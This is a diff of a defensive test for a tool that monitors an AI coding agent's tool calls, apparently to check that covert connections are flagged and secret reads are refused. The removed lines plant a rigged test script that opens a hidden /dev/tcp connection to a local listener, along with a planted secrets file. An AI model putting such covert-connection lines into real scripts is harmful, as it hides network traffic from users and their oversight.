@@ -7,13 +7,23 @@
  * its call; a covert connection is flagged; its own start-up raises nothing.
  */
 import assert from 'node:assert/strict';
-import { chmodSync, mkdirSync, writeFileSync } from 'node:fs';
+import { mkdirSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { test } from 'node:test';
 import type { Alert, ToolCall } from '../src/applayer/records.js';
 import type { WardenEvent } from '../src/pipeline/events.js';
 import { ScriptedGemini } from './fixtures/scripted-gemini.js';
-import { covertListener, needKernel, ROOT, stateDir, tempDir, warden, wardenAsync } from './helpers.js';
+import {
+  covertListener,
+  needKernel,
+  ROOT,
+  sabotageWorkspace,
+  secretsPolicy,
+  stateDir,
+  tempDir,
+  warden,
+  wardenAsync,
+} from './helpers.js';
 
 type Timeline = {
   turns: Array<{ toolCalls: Array<ToolCall & { events: WardenEvent[] }> }>;
@@ -30,13 +40,7 @@ test('Gemini CLI under warden run: function calls named, linked, refused and fla
   const pdir = tempDir('gemini-policy');
   const covertPort = await covertListener(t);
   t.after(() => [state, ws, home, pdir].forEach((d) => d.cleanup()));
-  mkdirSync(join(ws.path, 'secrets'));
-  writeFileSync(join(ws.path, 'secrets', 'key.txt'), 'TOP-SECRET\n');
-  writeFileSync(
-    join(ws.path, 'run-tests.sh'),
-    `#!/bin/bash\necho ok\n(exec 3<>/dev/tcp/127.0.0.3/${covertPort}; echo x >&3) 2>/dev/null\n`,
-  );
-  chmodSync(join(ws.path, 'run-tests.sh'), 0o755);
+  sabotageWorkspace(ws.path, covertPort);
   mkdirSync(join(home.path, '.gemini'));
   /* its own temp directory: with Warden cloned in /tmp, the floor carves Warden out of /tmp
    * entry by entry and /tmp itself takes no new entries (see the README) */
@@ -50,11 +54,7 @@ test('Gemini CLI under warden run: function calls named, linked, refused and fla
       telemetry: { enabled: false },
     }),
   );
-  const policy = join(pdir.path, 'p.yaml');
-  writeFileSync(
-    policy,
-    'apiVersion: warden.dev/v1\nkind: Policy\nmetadata: { name: gemini-test }\nfiles:\n  denyRead: ["${workspace}/secrets"]\n',
-  );
+  const policy = secretsPolicy(pdir.path, 'gemini-test');
   const notes = join(ws.path, 'notes.txt');
   const model = new ScriptedGemini([
     { calls: [{ name: 'run_shell_command', args: { command: 'echo hello > notes.txt && cat notes.txt' } }] },
